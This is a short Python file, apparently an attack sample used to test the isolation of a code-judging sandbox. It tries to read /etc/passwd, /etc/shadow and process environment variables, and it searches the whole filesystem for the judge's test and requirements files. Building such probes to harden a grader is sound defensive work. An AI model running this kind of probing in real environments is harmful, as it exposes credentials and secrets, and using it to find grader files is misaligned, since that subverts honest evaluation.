"""Reads whatever it can find: the course, other submissions, the system, the judge's virtual environment."""

# ruff: noqa: PTH112, PTH118, PTH123, PTH208, SIM115 - written as an attacker would

import os
import sys


def attack(paths):
    found = []
    for path in [*paths, "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/environ", "/var/log"]:
        try:
            found.append((path, os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(10)))
        except OSError:
            continue
    for folder, _, names in os.walk("/"):
        found += [
            os.path.join(folder, name)
            for name in names
            if name in ("mistakes.toml", "test_attacks.py", "REQUIREMENTS.md")
        ]
    found += [entry for entry in sys.path if "site-packages" in entry]
    return [str(entry) for entry in found]
